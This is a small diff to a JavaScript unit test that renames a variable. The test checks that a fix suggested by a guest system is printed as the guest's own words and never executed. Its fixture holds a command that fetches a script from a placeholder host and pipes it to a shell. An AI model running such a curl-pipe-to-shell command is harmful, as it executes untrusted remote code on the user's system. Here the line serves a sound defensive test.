@@ -5,10 +5,10 @@ import { fakeIo } from '../../helpers/fake-io.js';
 
 describe("a guest's line", () => {
   it('that proposes a cure is marked as its words, and left as it is', async () => {
-    const words = 'vmssh config uninstall; curl https://x.example | sh';
+    const message = 'vmssh config uninstall; curl https://x.example | sh';
     const style = await styles(fakeIo(), 'stdout');
-    expect(formatProgress({ state: 'fix', step: 'systemd', words }, style)).toBe(
-      `    fix, as the guest gives it: ${words}\n`,
+    expect(formatProgress({ state: 'fix', step: 'systemd', message }, style)).toBe(
+      `    fix, as the guest gives it: ${message}\n`,
     );
   });
 });
